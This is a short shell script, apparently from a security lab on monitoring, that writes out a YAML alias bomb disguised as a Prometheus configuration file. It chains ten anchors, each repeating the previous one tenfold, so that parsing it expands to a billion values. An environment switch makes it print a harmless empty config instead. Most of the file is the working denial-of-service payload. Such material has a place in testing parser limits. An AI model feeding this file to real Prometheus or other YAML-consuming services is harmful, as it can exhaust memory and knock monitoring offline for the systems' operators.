#!/bin/sh
# SPDX-License-Identifier: MIT
#
# settings-alias-bomb.sh - ten lines that stand for 10^9 values
#
# lab: 08-monitoring
# file: prometheus.yml
# named: no anchors
set -eu
if [ -n "${NO_ATTACK:-}" ]; then
    echo 'global: {}'
    exit
fi
echo 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]'
for i in 1 2 3 4 5 6 7 8 9; do
    a="*a$((i - 1))"
    echo "a$i: &a$i [$a, $a, $a, $a, $a, $a, $a, $a, $a, $a]"
done
echo 'global: {external_labels: {a: *a9}}'
